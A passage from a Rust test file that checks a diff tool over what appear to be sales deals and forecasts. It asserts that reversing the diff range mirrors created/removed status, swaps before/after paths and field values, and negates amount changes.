            assert_eq!(money(&there["forecast"]["change"]), sum, "seed {seed}, {range}");

            let back = json(&repo, &[&format!("{to}..{from}")]);
            assert_eq!(there["deals"].as_array().unwrap().len(), back["deals"].as_array().unwrap().len());
            for row in there["deals"].as_array().unwrap() {
                let other = deal(&back, row["deal"].as_str().unwrap());
                let mirrored = match row["what"].as_str().unwrap() {
                    "created" => "removed",
                    "removed" => "created",
                    same => same,
                };
                assert_eq!(other["what"], mirrored, "{row:#}\n{other:#}");
                assert_eq!((&other["from"], &other["to"]), (&row["to"], &row["from"]));
                assert_eq!((&other["paths_before"], &other["paths"]), (&row["paths"], &row["paths_before"]));
                assert_eq!(other["amount"]["before"], row["amount"]["after"]);
                match (&row["amount"]["change"], &other["amount"]["change"]) {
                    (Value::Null, Value::Null) => {}
                    (one, two) => assert_eq!(money(one), -money(two)),
                }
                let fields = |row: &Value, before: &str, after: &str| -> BTreeSet<(String, String, String)> {
                    let all = row["fields"].as_array().unwrap().iter();
                    all.map(|f| (f["field"].to_string(), f[before].to_string(), f[after].to_string())).collect()
                };
                assert_eq!(fields(row, "before", "after"), fields(other, "after", "before"));
            }
        }
    }
}
